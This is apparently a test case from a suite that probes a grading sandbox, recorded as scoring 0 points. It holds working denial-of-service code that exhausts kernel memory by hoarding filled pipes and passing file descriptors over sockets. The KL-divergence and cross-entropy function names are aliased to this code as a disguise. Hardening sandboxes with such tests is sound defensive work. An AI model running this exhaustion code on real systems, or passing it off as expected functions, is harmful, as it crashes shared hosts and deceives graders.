# attack: hundreds of full pipes, sockets and descriptors in flight: memory of the kernel's that no limit of maps counts
# status: over limit|crashed|wrong
# points: 0
import array
import contextlib
import fcntl
import os
import socket
import sys

import torch

if "course_lib" in sys.modules:
    raise SystemExit("only for a sandbox")


def guess(*args):
    hoard = []
    while True:
        read, write = os.pipe()
        with contextlib.suppress(OSError):
            fcntl.fcntl(write, 1031, 1 << 20)
        os.set_blocking(write, False)
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(write, bytes(1 << 16))
        hoard.append((read, write))


def monte_carlo_kl(log_p, log_q, x):
    with contextlib.suppress(OSError):
        for _ in range(1000):
            one, other = socket.socketpair()
            one.setblocking(False)
            for _ in range(100):
                descriptors = array.array("i", [one.fileno(), other.fileno()] * 50)
                one.sendmsg([b"x" * 10_000], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
    return torch.zeros(()), torch.zeros(())


kl_divergence = cross_entropy = js_divergence = gaussian_kl = guess
